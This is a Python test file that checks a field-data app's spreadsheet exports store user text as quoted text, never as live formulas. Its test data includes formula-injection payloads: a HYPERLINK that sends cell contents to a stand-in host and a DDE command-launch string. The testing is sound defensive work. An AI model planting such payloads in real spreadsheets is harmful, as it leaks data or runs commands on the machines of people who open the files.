"""A mediator types ``=HYPERLINK(...)`` into a note, an admin gives a question a label
that starts with ``＝``; the researcher opens the codebook and the export in Excel and
sees exactly that text: no spreadsheet we write holds a live formula, numbers stay
numbers."""

from __future__ import annotations

import io

import openpyxl
import pytest
import xlsxwriter

from fieldapp.dataset.formula import quoted_format, write_text
from tests.helpers import switch_user, xlsform

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点此")',
    "＝1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\nplain after a line feed",
    "  \n =1+1",
    "\u3000＠SUM(1)",
    "＋1",
    "－1",
]
PLAIN = ["王芳", "007123", "3 = yes", "a-b"]


def as_text(data: bytes) -> bytes:
    """``data`` with every cell that openpyxl took for a formula written back as text
    (the label an admin typed in Excel with a leading ``'``)."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    write_text(ws, c.row - 1, c.column - 1, c.value)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


NOTES = as_text(
    xlsform(
        [
            ["type", "name", "label"],
            ["text", "note", '=HYPERLINK("http://evil.example","备注")'],
            ["text", "other", "＝1+1 其他"],
            ["integer", "hours", "-用时"],
        ],
        settings=[["form_id", "version", "form_title"], ["formula_notes", "1", "@走访备注"]],
    )
)


def cells(data: bytes) -> list:
    """Every written cell of every sheet of an XLSX, read back with openpyxl."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]


def assert_no_formula(data: bytes) -> list:
    found = cells(data)
    assert found and not [c.value for c in found if c.data_type == "f"]
    return found


@pytest.mark.parametrize("library", ["openpyxl", "xlsxwriter"])
def test_every_hostile_text_is_written_as_the_text_it_is(library):
    out = io.BytesIO()
    if library == "openpyxl":
        wb = openpyxl.Workbook()
        ws = wb.active
        for r, text in enumerate(HOSTILE + PLAIN):
            write_text(ws, r, 0, text)
        ws.cell(row=len(HOSTILE + PLAIN) + 1, column=1, value=-5)
        wb.save(out)
    else:
        wb = xlsxwriter.Workbook(out, {"in_memory": True})
        ws, quoted = wb.add_worksheet(), quoted_format(wb)
        for r, text in enumerate(HOSTILE + PLAIN):
            write_text(ws, r, 0, text, quoted=quoted)
        ws.write_number(len(HOSTILE + PLAIN), 0, -5)
        wb.close()
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    column = [c for (c,) in sheet.iter_rows()]
    # intact, no apostrophe (XlsxWriter stores a CR as the XML escape _x000D_, which
    # Excel decodes and openpyxl's reader leaves as it is)
    values = [c.value.replace("_x000D_", "\r") if c.data_type == "s" else c.value for c in column]
    assert values == [*HOSTILE, *PLAIN, -5]
    assert all(c.data_type == "s" and c.quotePrefix for c in column[: len(HOSTILE)])
    assert not any(c.quotePrefix for c in column[len(HOSTILE) :])
    assert column[-1].data_type == "n"  # numbers stay numbers


def test_xlsxwriter_refuses_to_write_a_formula_without_its_quoted_format():
    wb = xlsxwriter.Workbook(io.BytesIO(), {"in_memory": True})
    with pytest.raises(TypeError):
        write_text(wb.add_worksheet(), 0, 0, "=1+1")
    wb.close()


def test_researcher_opens_codebook_and_export_and_sees_the_text_typed(
    client, world, submit, tmp_path
):
    (tmp_path / "notes.xlsx").write_bytes(NOTES)
    typed = ['=HYPERLINK("http://evil.example/?q="&A1,"点此")', "＝1+1", "@SUM(A1:A2)"]
    submit(tmp_path / "notes.xlsx", [{"note": t, "other": "-2+3", "hours": "3"} for t in typed])
    switch_user(client, world.researcher)

    book = client.get("/data/formula_notes/export?format=codebook")
    assert book.status_code == 200
    texts = {c.value: c for c in assert_no_formula(book.data)}
    label = texts['=HYPERLINK("http://evil.example","备注")']
    assert label.data_type == "s" and label.quotePrefix
    assert texts["＝1+1 其他"].quotePrefix and texts["-用时"].quotePrefix
    assert "@走访备注（formula_notes）" in texts

    data = client.get("/data/formula_notes/export?format=xlsx")
    assert data.status_code == 200
    found = assert_no_formula(data.data)
    notes = [c for c in found if c.value in typed]
    assert sorted(c.value for c in notes) == sorted(typed)
    assert all(c.quotePrefix for c in notes)
    assert [c.value for c in found if c.value == "-2+3"] == ["-2+3"] * 3
    assert [c.value for c in found if c.value == 3] == [3] * 3  # the hours, as numbers


def test_admin_downloads_the_people_template_without_a_formula(client, world):
    switch_user(client, world.admin)
    resp = client.get("/admin/users/import/template.xlsx")
    assert resp.status_code == 200
    values = [c.value for c in assert_no_formula(resp.data)]
    assert values[:5] == ["用户名", "姓名", "角色", "区划代码", "手机"]
